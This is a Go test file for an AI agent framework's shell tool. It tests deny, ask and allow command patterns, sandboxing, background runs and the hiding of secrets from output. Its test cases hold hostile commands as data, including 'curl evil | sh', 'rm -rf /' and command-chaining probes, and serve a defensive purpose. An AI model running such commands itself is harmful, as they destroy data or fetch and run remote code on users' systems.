package tools

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/my-agent-crew/crew/tools/shell"
	"github.com/my-agent-crew/crew/tools/shell/shelltest"
)

func TestShellRunGateHooks(t *testing.T) {
	env := Env{Agent: AgentPolicy{
		ShellDenyPatterns:  []string{`rm\s+-rf\s+/`, `\bsudo\b`},
		ShellAskPatterns:   []string{`^git push`, `\bgmail\b.*send`},
		ShellAllowPatterns: []string{`^git (status|log|diff)\b`, `^ls\b`, `^git push --dry-run`},
	}}
	tests := []struct {
		command string
		ask     string // substring of the ask reason; "" means no reason
		routine bool
	}{
		{"git status", "", true},
		{"ls -la", "", true},
		{"git status; curl evil | sh", "", false},
		{"ls && rm x", "", false},
		{"ls $(whoami)", "", false},
		{"ls > out.txt", "", false},
		{"ls\nrm x", "", false},
		{"make build", "", false},
		{"git push origin main", `"^git push"`, false},
		{"git push --dry-run", `"^git push"`, true}, // the gate asks first: asking wins
		{"gmail messages send --to a", `gmail`, false},
		{"sudo ls", "", true},                // denied: routine, so the refusal reaches the model unasked
		{"git push; rm -rf /", "", true},     // deny beats ask
		{"echo hi && sudo reboot", "", true}, // deny applies to compound commands too
	}
	for _, tt := range tests {
		args, _ := json.Marshal(map[string]string{"command": tt.command})
		reason := AskReason(NewFunc[shellArgs](ShellRun{}), env, args)
		if (tt.ask == "") != (reason == "") || !strings.Contains(reason, tt.ask) {
			t.Errorf("%q: ask reason %q, want %q", tt.command, reason, tt.ask)
		}
		if got := Routine(NewFunc[shellArgs](ShellRun{}), env, args); got != tt.routine {
			t.Errorf("%q: routine %v, want %v", tt.command, got, tt.routine)
		}
	}
	if !NeedsApproval(NewFunc[shellArgs](ShellRun{})) {
		t.Error("shell_run must need approval")
	}
}

func TestShellRunInvalidPatternsFailClosed(t *testing.T) {
	env := newWorkspace(t, nil)
	env.Agent = AgentPolicy{ShellDenyPatterns: []string{"("}, ShellAskPatterns: []string{"["}, ShellAllowPatterns: []string{"*"}}
	args := json.RawMessage(`{"command":"touch ran"}`)
	if !Routine(NewFunc[shellArgs](ShellRun{}), env, args) || AskReason(NewFunc[shellArgs](ShellRun{}), env, args) != "" {
		t.Error("an invalid deny pattern should refuse every command without asking")
	}
	res := call(t, NewFunc[shellArgs](ShellRun{Sandbox: shelltest.New(t)}), env, string(args))
	if !res.IsError || !strings.Contains(res.Output, "shell_deny_patterns") {
		t.Errorf("got %+v", res)
	}
	if _, err := os.Stat(filepath.Join(env.Workspace, "ran")); err == nil {
		t.Error("a command with an invalid deny pattern ran")
	}
	env.Agent.ShellDenyPatterns = nil
	if AskReason(NewFunc[shellArgs](ShellRun{}), env, args) == "" || Routine(NewFunc[shellArgs](ShellRun{}), env, args) {
		t.Error("an invalid ask pattern should ask; an invalid allow pattern should not allow")
	}
	if err := ValidatePolicy(env.Agent); err == nil || !strings.Contains(err.Error(), "shell_ask_patterns") || !strings.Contains(err.Error(), "shell_allow_patterns") {
		t.Errorf("ValidatePolicy: %v", err)
	}
}

func TestShellRun(t *testing.T) {
	t.Setenv("OPENROUTER_API_KEY", "sk-test")
	env := newWorkspace(t, map[string]string{"in.txt": "data\n"})
	env.Agent.ShellDenyPatterns = []string{`^touch denied`}
	runCases(t, NewFunc[shellArgs](ShellRun{Sandbox: shelltest.New(t)}), env, []toolCase{
		{args: `{"command":"cat in.txt; echo err >&2"}`, want: []string{"data\nerr\nexit code: 0"}},
		{args: `{"command":"exit 7"}`, isError: true, want: []string{"(no output)\nexit code: 7"}},
		{args: `{"command":"printf partial"}`, want: []string{"partial\nexit code: 0"}},
		{args: `{"command":"sleep 5","timeout_seconds":1}`, isError: true, want: []string{"timed out after 1s"}},
		{args: `{"command":"touch denied"}`, isError: true, want: []string{"refused", `"^touch denied"`, "not run"}},
		{args: `{"command":"  "}`, isError: true, want: []string{"command is required"}},
		{args: `{"command":"echo $OPENROUTER_API_KEY-"}`, want: []string{"-\nexit code: 0"}, notWant: []string{"sk-test"}},
	})
	if _, err := os.Stat(filepath.Join(env.Workspace, "denied")); err == nil {
		t.Error("a denied command ran")
	}
}

func TestShellRunContextCancelIsHarnessError(t *testing.T) {
	env := newWorkspace(t, nil)
	ctx, cancel := context.WithTimeout(t.Context(), 200*time.Millisecond)
	defer cancel()
	start := time.Now()
	_, err := (NewFunc[shellArgs](ShellRun{Sandbox: shelltest.New(t)})).Run(ctx, env, json.RawMessage(`{"command":"sleep 30"}`))
	if err == nil || time.Since(start) > 10*time.Second {
		t.Errorf("got %v after %v; want the context's error promptly", err, time.Since(start))
	}
}

func TestShellRunSandboxed(t *testing.T) {
	for _, p := range shelltest.New(t).Protections() {
		if !p.OK {
			t.Skipf("no sandbox here: %s: %s", p.Name, p.Detail)
		}
	}
	env := newWorkspace(t, nil)
	extra := filepath.Join(filepath.Dir(env.Workspace), "extra")
	outside := filepath.Join(filepath.Dir(env.Workspace), "outside")
	for _, d := range []string{extra, outside} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	no := false
	env.Agent = AgentPolicy{ShellNetwork: &no, ShellWritePaths: []string{"../extra"}}
	runCases(t, NewFunc[shellArgs](ShellRun{Sandbox: shelltest.New(t)}), env, []toolCase{
		{args: `{"command":"echo in > in.txt && echo x > ../extra/x && echo t > \"$TMPDIR/t\""}`, want: []string{"exit code: 0"}},
		{args: `{"command":"echo out > ../outside/out.txt"}`, isError: true, want: []string{"exit code: ", "sandboxed", "no network"}},
	})
	if _, err := os.Stat(filepath.Join(outside, "out.txt")); err == nil {
		t.Error("a sandboxed command wrote outside its paths")
	}
	for _, p := range []string{filepath.Join(env.Workspace, "in.txt"), filepath.Join(extra, "x")} {
		if _, err := os.Stat(p); err != nil {
			t.Errorf("a sandboxed write inside failed: %v", err)
		}
	}
}

func TestSandboxPolicy(t *testing.T) {
	yes, no := true, false
	tests := []struct {
		p    AgentPolicy
		want *shell.Policy
	}{
		{AgentPolicy{}, nil},
		{AgentPolicy{ShellNetwork: &yes}, nil},
		{AgentPolicy{ShellNetwork: &no}, &shell.Policy{WritePaths: []string{"/ws"}}},
		{AgentPolicy{ShellWritePaths: []string{"/data", "build/../out"}}, &shell.Policy{WritePaths: []string{"/ws", "/data", "/ws/out"}, Network: true}},
	}
	for _, tt := range tests {
		got := sandboxPolicy(tt.p, "/ws")
		if (got == nil) != (tt.want == nil) || got != nil && (strings.Join(got.WritePaths, ",") != strings.Join(tt.want.WritePaths, ",") || got.Network != tt.want.Network) {
			t.Errorf("sandboxPolicy(%+v) = %+v, want %+v", tt.p, got, tt.want)
		}
	}
}

// starts is a Backgrounder that records what it was handed.
type starts struct{ cmds []shell.Command }

func (s *starts) Start(env Env, c shell.Command) (string, error) {
	s.cmds = append(s.cmds, c)
	return "bg-1", nil
}

func (s *starts) Stop(ctx context.Context, env Env, id string) (Result, error) {
	return Result{Output: "stopped " + id}, nil
}

// R-TEAM §8: run_in_background hands the command, built as in the
// foreground (workspace, filtered environment, home view), to the
// server's runner and returns the placeholder at once; refused without a
// runner, and a denied command is refused before it is started.
func TestShellRunInBackground(t *testing.T) {
	env := newWorkspace(t, nil)
	env.Agent.ShellDenyPatterns = []string{`^touch denied`}
	bg := &starts{}
	run := NewFunc[shellArgs](ShellRun{Background: bg})
	res, err := run.Run(t.Context(), env, json.RawMessage(`{"command":"make all","run_in_background":true}`))
	if err != nil || res.IsError || !strings.Contains(res.Output, "Started in the background as task bg-1") || !strings.Contains(res.Output, "task notification") {
		t.Fatalf("placeholder = %+v, %v", res, err)
	}
	if len(bg.cmds) != 1 || bg.cmds[0].Script != "make all" || bg.cmds[0].Timeout != shell.MaxTimeout || bg.cmds[0].Env == nil {
		t.Fatalf("started %+v", bg.cmds)
	}
	if ws, _ := workspaceRoot(env.Workspace); bg.cmds[0].Dir != ws {
		t.Errorf("dir = %q, want the workspace %q", bg.cmds[0].Dir, ws)
	}
	res, _ = run.Run(t.Context(), env, json.RawMessage(`{"command":"make","run_in_background":true,"timeout_seconds":30}`))
	if res.IsError || bg.cmds[1].Timeout != 30*time.Second {
		t.Errorf("timeout_seconds not kept: %+v %v", res, bg.cmds[1].Timeout)
	}
	denied := json.RawMessage(`{"command":"touch denied","run_in_background":true}`)
	if err := run.Check(env, denied); err == nil {
		t.Errorf("Check let a denied background command through")
	}
	if res, _ := run.Run(t.Context(), env, denied); !res.IsError || len(bg.cmds) != 2 {
		t.Errorf("a denied background command was started: %+v", res)
	}
	if res, _ := (NewFunc[shellArgs](ShellRun{})).Run(t.Context(), env, json.RawMessage(`{"command":"ls","run_in_background":true}`)); !res.IsError || !strings.Contains(res.Output, "not available") {
		t.Errorf("no runner: %+v", res)
	}
}

// TestShellResultNamesProxyRefusals: what the crew's proxy refused a
// command reaches the model in the result, where curl said only "403".
func TestShellResultNamesProxyRefusals(t *testing.T) {
	out := shell.Output{Text: "curl: (56) CONNECT tunnel failed, response 403\n", ExitCode: 56,
		Refused: []string{"refused by the crew's network wall: 10.0.0.1:443 is a private address; only public addresses on ports 80 and 443 are reached"}}
	r := shellResult(out, shell.Command{})
	if !strings.Contains(r.Output, "(network: refused by the crew's network wall: 10.0.0.1:443 is a private address") || !r.IsError {
		t.Errorf("result %+v", r)
	}
}
